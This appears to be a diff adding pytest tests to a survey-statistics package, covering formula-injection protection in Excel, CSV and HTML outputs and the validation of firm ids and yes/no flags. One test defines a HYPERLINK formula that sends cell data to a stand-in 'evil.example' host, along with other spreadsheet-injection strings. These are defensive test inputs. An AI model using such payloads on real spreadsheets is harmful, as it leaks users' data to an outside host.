@@ -6,6 +6,7 @@ created or deleted, that formula cells are text, and the numbers.
 
 from __future__ import annotations
 
+import zipfile
 from pathlib import Path
 
 import numpy as np
@@ -192,3 +193,125 @@ def test_validate_config_checks_the_published_period_and_the_register_file(folde
     problems = validate_config(cfg)
     assert any(p.startswith("register.file: file not found") and "nope.csv" in p
                for p in problems), problems
+
+
+# --------------------------------------------------------------------------- item 3
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_formula_labels_are_text_in_the_bulletin_workbook_csv_and_html(tmp_path):
+    import openpyxl
+
+    from survey.publish.report import BulletinContent, BulletinTable, write_bulletin
+
+    frame = pd.DataFrame({
+        "county": [EVIL, "+SUM(A1:A9)", "-2+3", "@cmd", "宾阳县"], "variable": "gross_output",
+        "estimate": [1.0, 2.0, 3.0, 4.0, 5.0], "se": 0.1, "cv": 0.05, "ci_low": 0.5, "ci_high": 9.0,
+        "df": 40, "n": 10})
+    content = BulletinContent(title="B", period="2006Q3", language="en",
+                              tables=[BulletinTable(name="county", title="by county", frame=frame)])
+    files = write_bulletin(content, tmp_path, formats=("html", "xlsx", "csv"))
+    book = openpyxl.load_workbook(files.excel)
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value.startswith("=")]
+    assert [c.value for c in cells] == [EVIL]
+    assert all(c.data_type == "s" for c in cells)
+    with zipfile.ZipFile(files.excel) as z:
+        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+    text = files.csv["county"].read_text(encoding="utf-8-sig")
+    for label in (EVIL, "+SUM(A1:A9)", "-2+3", "@cmd"):
+        assert "'" + label.replace('"', '""') in text, label
+    assert "\n宾阳县," in text  # ordinary labels unchanged
+    page = files.html.read_text(encoding="utf-8")
+    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in page
+    assert EVIL not in page
+
+
+def test_write_table_and_workbook_write_formula_text_as_text(tmp_path):
+    import openpyxl
+
+    from survey.io import read_table, write_table
+
+    frame = pd.DataFrame({"city": [EVIL, "\tx", "\rx", "-5", "南宁"], "v": [1.0, -2.0, 3, 4, 5]})
+    csv = write_table(frame, tmp_path / "t.csv")
+    back = read_table(csv)
+    assert back["city"].tolist() == ["'" + EVIL, "'\tx", "'\rx", -5, "南宁"] or \
+        back["city"].astype(str).tolist()[:3] == ["'" + EVIL, "'\tx", "'\rx"]
+    assert back["v"].tolist() == [1.0, -2.0, 3, 4, 5]  # numbers are never prefixed
+    xlsx = write_table(frame, tmp_path / "t.xlsx")
+    cell = openpyxl.load_workbook(xlsx)["data"]["A2"]
+    assert (cell.value, cell.data_type) == (EVIL, "s")
+
+
+def test_disclosure_and_plan_csvs_protect_labels(tmp_path):
+    from survey.plan import design_plan
+    from survey.plan.plan import write_sample
+
+    df = pd.DataFrame({"firm_id": [f"f{i}" for i in range(40)],
+                       "region": ["=1+1"] * 20 + ["@A"] * 20,
+                       "revenue": np.linspace(1, 100, 40)})
+    plan = design_plan(df, {"revenue": {"total": 0.2}}, strata="region", size="revenue")
+    paths = plan.to_csv(tmp_path)
+    assert "'=1+1" in paths[0].read_text() and "'@A" in paths[0].read_text()
+    out = write_sample(plan.select(seed=1), tmp_path, excel=True)
+    assert "'=1+1" in out[0].read_text()
+    import openpyxl
+
+    ws = openpyxl.load_workbook(out[1])["sample"]
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
+
+
+# --------------------------------------------------------------------------- items 10 and 11
+def _register(n: int = 40) -> pd.DataFrame:
+    from survey.datasets import load_register
+
+    reg = load_register()
+    reg = reg[(reg["year"] == 2006) & reg["revenue_prev_year"].notna()].head(n).reset_index(drop=True)
+    return reg[["firm_id", "city", "revenue_prev_year", "above_size"]]
+
+
+def _corrupt(uscc: str) -> str:
+    last = "0" if uscc[-1] != "0" else "1"
+    return uscc[:-1] + last
+
+
+def test_invalid_uscc_is_caught_where_the_frame_enters():
+    from survey.errors import FrameError
+    from survey.plan import design_plan
+    from survey.register.frame import Frame
+
+    reg = _register()
+    assert Frame(reg, id="firm_id").N == 40  # valid USCCs pass
+    bad = reg.copy()
+    bad.loc[7, "firm_id"] = _corrupt(bad.loc[7, "firm_id"])
+    with pytest.raises(FrameError, match=r"1 invalid USCC id\(s\) in column 'firm_id', rows 7"):
+        design_plan(bad, {"revenue_prev_year": {"total": 0.2}}, size="revenue_prev_year")
+    with pytest.raises(FrameError, match="rows 7"):
+        Frame(bad, id="firm_id")
+    assert Frame(bad, id="firm_id", check_ids=False).N == 40  # on purpose only
+    # ids that are not USCC-shaped (toy examples, internal codes) are not checked by default
+    assert Frame(pd.DataFrame({"firm_id": ["a", "b"]})).N == 2
+
+
+@pytest.mark.parametrize("yes,no", [("Y", "N"), ("是", "否"), ("true", "false"), ("1", "0"),
+                                    (1, 0), (True, False)])
+def test_take_all_flag_given_as_text_is_parsed(yes, no):
+    from survey.plan import design_plan
+
+    reg = _register()
+    flags = np.where(np.arange(40) < 5, yes, no)
+    reg["above_size"] = pd.Series(list(flags), dtype=object) if isinstance(yes, str) else flags
+    plan = design_plan(reg, {"revenue_prev_year": {"total": 0.3}}, size="revenue_prev_year",
+                       take_all="above_size")
+    assert int((plan.frame.data["part"] == "take_all").sum()) == 5
+
+
+def test_take_all_flag_with_unknown_text_is_refused_naming_the_column():
+    from survey.errors import FrameError
+    from survey.plan import design_plan
+
+    reg = _register()
+    reg["above_size"] = ["Y"] * 5 + ["N"] * 30 + ["maybe"] * 5
+    with pytest.raises(FrameError, match=r"column 'above_size' must hold yes/no values.*'maybe' in row 35"):
+        design_plan(reg, {"revenue_prev_year": {"total": 0.3}}, size="revenue_prev_year",
+                    take_all="above_size")
